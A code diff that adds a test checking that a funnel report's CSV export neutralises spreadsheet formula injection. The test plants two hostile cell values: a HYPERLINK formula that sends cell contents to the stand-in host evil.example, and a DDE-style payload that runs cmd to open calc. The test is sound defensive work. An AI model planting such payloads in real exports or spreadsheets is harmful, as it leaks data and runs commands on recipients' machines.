@@ -222,3 +222,19 @@ def test_managers_find_reports_in_the_top_bar(manager_maria, client) -> None:
     client.force_login(manager_maria)
     assert b'<a href="/reports/">Reports</a>' in client.get("/inbox/").content
     assert b'href="/reports/funnel/"' in client.get("/reports/").content
+
+
+def test_csv_download_defuses_names_a_spreadsheet_would_run(
+    history: None, manager_maria, client, inbox_support: Inbox
+) -> None:
+    Stage.objects.filter(key="lead").update(name='=HYPERLINK("https://evil.example/?"&A1,"Lead")')
+    inbox_support.name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    inbox_support.save(update_fields=["name"])
+    client.force_login(manager_maria)
+    response = client.get("/reports/funnel/export.csv?start=2026-03-01&end=2026-03-31")
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    cells = [cell for row in rows for cell in row]
+    assert '\'=HYPERLINK("https://evil.example/?"&A1,"Lead")' in cells
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "@", "+", "\t", "\r")]
+    assert "-" not in {cell[:1] for cell in cells if not cell.lstrip("-").replace(".", "").isdigit()}
